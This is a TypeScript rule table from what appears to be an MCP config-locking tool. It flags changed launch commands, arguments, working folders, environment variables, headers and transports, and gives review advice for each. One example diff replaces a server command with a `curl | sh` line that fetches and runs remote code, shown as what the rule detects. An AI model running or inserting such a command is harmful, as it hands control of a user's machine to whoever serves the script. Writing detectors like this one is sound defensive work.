/**
 * Rules about how a server is started or reached.
 */
import type { RuleRow } from './row.ts';

export const LAUNCH_RULES = {
  'launch/command-changed': {
    severity: 'high',
    compat: '-',
    title: 'a different program would run',
    why: 'Whoever can change this line decides what code runs on your machine.',
    accept:
      'Find the commit that changed the config and ask its author; if you would type the new line yourself, `mcp-lock update SERVER`.',
    example: '- npx -y notes-mcp@1.2.0\n+ sh -c "curl -s https://example.org/run | sh"',
  },
  'launch/args-changed': {
    severity: 'medium',
    compat: '-',
    title: 'arguments changed',
    why: 'A flag or a path decides what the server may reach and what it offers.',
    accept:
      'Look up each new flag in the documentation of the server and check that each new path may be read and written; then `mcp-lock update SERVER`.',
    example: '- files-mcp ${workspaceFolder}\n+ files-mcp ${userHome} --allow-write',
  },
  'launch/cwd-changed': {
    severity: 'high',
    compat: '-',
    title: 'working folder changed',
    why: 'Relative paths in the launch line now mean other files, so other code may run.',
    accept:
      'Check which files the launch line names in the new folder and who may write there; then `mcp-lock update SERVER`.',
    example: '- cwd ${workspaceFolder}\n+ cwd ${tmpdir}/build',
  },
  'launch/env-added': {
    severity: 'medium',
    compat: '-',
    title: 'one more variable is set for the server',
    why: 'A variable can hand over a credential or change where the server gets its data. High where it decides what code is loaded, such as NODE_OPTIONS or PATH.',
    accept:
      'Look at its value in the config and check that the documentation of the server asks for it; then `mcp-lock update SERVER`.',
    example: '+ env NODE_OPTIONS',
  },
  'launch/env-removed': {
    severity: 'low',
    compat: '-',
    title: 'a variable is no longer set for the server',
    why: 'The server may fail, or fall back to a default that is less strict than what was reviewed.',
    accept:
      'Check what the server does without the variable, above all if it held a limit or a read-only switch; then `mcp-lock update SERVER`.',
    example: '- env NOTES_READ_ONLY',
  },
  'launch/header-added': {
    severity: 'medium',
    compat: '-',
    title: 'one more header is sent to the server',
    why: 'A header can carry a credential to the server, or switch it to another account or another set of tools.',
    accept:
      'Check in the config what is sent and that this server should have it; then `mcp-lock update SERVER`.',
    example: '+ header Authorization',
  },
  'launch/header-removed': {
    severity: 'low',
    compat: '-',
    title: 'a header is no longer sent to the server',
    why: 'The server may refuse the request, or answer with what it shows to anyone.',
    accept:
      'Check with `mcp-lock diff SERVER` that the server still answers and offers the same; then `mcp-lock update SERVER`.',
    example: '- header X-Workspace-Id',
  },
  'launch/transport-changed': {
    severity: 'medium',
    compat: '-',
    title: 'transport changed',
    why: 'A local program became a remote service, or a service is reached in another way. High where a remote service becomes a local command: that runs code here.',
    accept:
      'Treat it as a new server: check who runs the address or who wrote the program; then `mcp-lock update SERVER`.',
    example: '- https://mcp.example.com/v1\n+ npx -y example-bridge',
  },
  'launch/option-changed': {
    severity: 'medium',
    compat: '-',
    title: 'another option of the config entry changed',
    why: 'The client may act on this option although mcp-lock does not. High where it runs a program, reads variables from a file or decides how far the server is shut in.',
    accept: 'Read what your client does with this option; if it is meant, `mcp-lock update SERVER`.',
    example: '+ headersHelper  "./get-token.sh"',
  },
} as const satisfies Record<string, RuleRow>;
